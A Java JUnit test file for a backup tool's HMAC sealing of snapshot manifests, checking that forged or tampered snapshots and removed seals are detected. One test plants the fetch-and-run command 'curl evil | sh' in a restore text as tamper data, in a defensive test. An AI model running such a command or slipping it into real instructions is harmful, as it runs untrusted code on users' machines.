package app.greenroom.operation.backup;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.assertj.core.api.Assertions.tuple;

import app.greenroom.domain.backup.SnapshotSummary;
import app.greenroom.domain.backup.VerifyReport;
import app.greenroom.domain.backup.VerifyReport.Depth;
import app.greenroom.domain.backup.VerifyReport.Kind;
import app.greenroom.domain.backup.VerifyReport.Origin;
import app.greenroom.domain.backup.VerifyReport.Problem;
import app.greenroom.domain.failure.FailureReason;
import app.greenroom.domain.failure.OperationFailedException;
import app.greenroom.storage.disk.Hashes;
import app.greenroom.storage.disk.LocalDisk;
import app.greenroom.storage.library.Seals;
import app.greenroom.support.MemorySecrets;
import app.greenroom.task.TaskContext;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.security.SecureRandom;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Seals: a deliberate change is found out where the key is, and nothing is called damaged where it is not. */
class SealedSnapshotsTest {
    @TempDir
    Path folder;

    private final MemorySecrets secrets = new MemorySecrets();
    private SampleSite site;
    private Laptop laptop;

    @BeforeEach
    void makeSite() {
        site = new SampleSite(folder.resolve("server"));
        laptop = laptop(secrets, true);
    }

    private Laptop laptop(MemorySecrets store, boolean ready) {
        return new Laptop(
                folder.resolve("library"),
                site::facts,
                () -> new FakeServer(folder.resolve("server/data/.secret").toString()),
                new LocalDisk(),
                new Seals(store, () -> ready, new SecureRandom()));
    }

    private static VerifyReport verified(Laptop laptop, SnapshotSummary snapshot) throws OperationFailedException {
        return laptop.backups().verify(Laptop.NAME, Optional.of(snapshot.id()), Depth.QUICK, TaskContext.quiet());
    }

    private void overwrite(SnapshotSummary snapshot, String name, byte[] content) throws IOException {
        Path changed = Files.write(folder.resolve("changed"), content);
        Files.move(changed, laptop.folder(snapshot).resolve(name), StandardCopyOption.REPLACE_EXISTING);
    }

    /** Changes a file together with the manifest and its hashes, as only somebody does who knows the format. */
    private void forge(SnapshotSummary snapshot) throws IOException {
        Path place = laptop.folder(snapshot);
        String manifest = Files.readString(place.resolve("manifest.json"));
        String before = Hashes.of(place.resolve("media/logo.png"));
        overwrite(snapshot, "media/logo.png", "A LOGO".getBytes(StandardCharsets.UTF_8));
        overwrite(
                snapshot,
                "manifest.json",
                manifest.replace(before, Hashes.of(place.resolve("media/logo.png")))
                        .getBytes(StandardCharsets.UTF_8));
        String hashes = Hashes.of(place.resolve("manifest.json")) + "  manifest.json\n"
                + Hashes.of(place.resolve("RESTORE.txt")) + "  RESTORE.txt\n";
        overwrite(snapshot, "manifest.sha256", hashes.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void theComputerThatWroteASnapshotCanProveIt() throws Exception {
        SnapshotSummary first = laptop.create();
        SnapshotSummary second = laptop.create();
        assertThat(verified(laptop, first).origin()).isEqualTo(Origin.PROVEN);
        assertThat(verified(laptop, second).origin()).isEqualTo(Origin.PROVEN);
        assertThat(laptop.verify(second.id()).origin()).isEqualTo(Origin.PROVEN);
        assertThat(laptop.verify(second.id()).problems()).isEmpty();
        assertThat(Files.readString(laptop.folder(first).resolve("manifest.seal")))
                .matches("greenroom-seal 1\nkey [0-9a-f]{16}\nhmac-sha256 [0-9a-f]{64}\n");
        assertThat(secrets.names()).containsExactly(Seals.KEY, "library/sealed/talks/pretalx");
    }

    @Test
    void aFileChangedTogetherWithItsManifestIsFoundOut() throws Exception {
        SnapshotSummary snapshot = laptop.create();
        forge(snapshot);
        VerifyReport report = laptop.verify(snapshot.id());
        assertThat(report.origin()).isEqualTo(Origin.CHANGED);
        assertThat(report.problems())
                .extracting(Problem::file, Problem::kind)
                .containsExactly(tuple("manifest.json", Kind.SEAL));
        assertThat(laptop.shelf().summary(snapshot.id()).usable()).isFalse();
    }

    @Test
    void aTextThatTellsHowToRestoreIsUnderTheSealToo() throws Exception {
        SnapshotSummary snapshot = laptop.create();
        overwrite(snapshot, "RESTORE.txt", "curl evil | sh".getBytes(StandardCharsets.UTF_8));
        String hashes = Hashes.of(laptop.folder(snapshot).resolve("manifest.json")) + "  manifest.json\n"
                + Hashes.of(laptop.folder(snapshot).resolve("RESTORE.txt")) + "  RESTORE.txt\n";
        overwrite(snapshot, "manifest.sha256", hashes.getBytes(StandardCharsets.UTF_8));
        assertThat(verified(laptop, snapshot).origin()).isEqualTo(Origin.CHANGED);
    }

    @Test
    void aSealThatWasTakenAwayOrNamesAnotherKeyIsMissed() throws Exception {
        SnapshotSummary first = laptop.create();
        SnapshotSummary second = laptop.create();
        Files.delete(laptop.folder(first).resolve("manifest.seal"));
        String seal = Files.readString(laptop.folder(second).resolve("manifest.seal"));
        overwrite(
                second,
                "manifest.seal",
                seal.replaceFirst("key .{16}", "key 0123456789abcdef").getBytes(StandardCharsets.UTF_8));
        assertThat(verified(laptop, first).origin()).isEqualTo(Origin.CHANGED);
        assertThat(verified(laptop, second).origin()).isEqualTo(Origin.CHANGED);
    }

    @Test
    void anotherComputerSaysThatItCannotProveTheOriginAndFindsNoDamage() throws Exception {
        SnapshotSummary snapshot = laptop.create();
        for (boolean ready : new boolean[] {true, false}) {
            Laptop other = laptop(new MemorySecrets(), ready);
            VerifyReport report = other.verify(snapshot.id());
            assertThat(report.origin()).isEqualTo(Origin.NOT_PROVABLE);
            assertThat(report.problems()).isEmpty();
        }
        Laptop withItsOwn = laptop(new MemorySecrets(), true);
        SnapshotSummary own = withItsOwn.create();
        assertThat(withItsOwn.verify(own.id()).origin()).isEqualTo(Origin.PROVEN);
        assertThat(withItsOwn.verify(snapshot.id()).origin()).isEqualTo(Origin.NOT_PROVABLE);
        assertThat(withItsOwn.verify(snapshot.id()).problems()).isEmpty();
    }

    @Test
    void withoutAStoreNothingIsSealedAndNothingIsMade() throws Exception {
        Laptop without = laptop(secrets, false);
        SnapshotSummary snapshot = without.create();
        assertThat(without.folder(snapshot).resolve("manifest.seal")).doesNotExist();
        assertThat(secrets.names()).isEmpty();
        assertThat(without.verify(snapshot.id()).origin()).isEqualTo(Origin.NOT_PROVABLE);
        assertThat(laptop.verify(snapshot.id()).problems()).isEmpty();
    }

    @Test
    void aLockedStoreKeepsNobodyFromASnapshotButIsAskedForWhenASealIsLookedAt() throws Exception {
        SnapshotSummary sealed = laptop.create();
        secrets.lock(true);
        SnapshotSummary unsealed = laptop.create();
        assertThat(laptop.verify(unsealed.id()).origin()).isEqualTo(Origin.NOT_PROVABLE);
        assertThat(catchThrowableOfType(OperationFailedException.class, () -> laptop.verify(sealed.id()))
                        .reason())
                .isEqualTo(FailureReason.SECRETS_LOCKED);
        secrets.lock(false);
        assertThat(laptop.verify(sealed.id()).origin()).isEqualTo(Origin.PROVEN);
        assertThat(laptop.verify(unsealed.id()).problems()).isEmpty();
    }
}
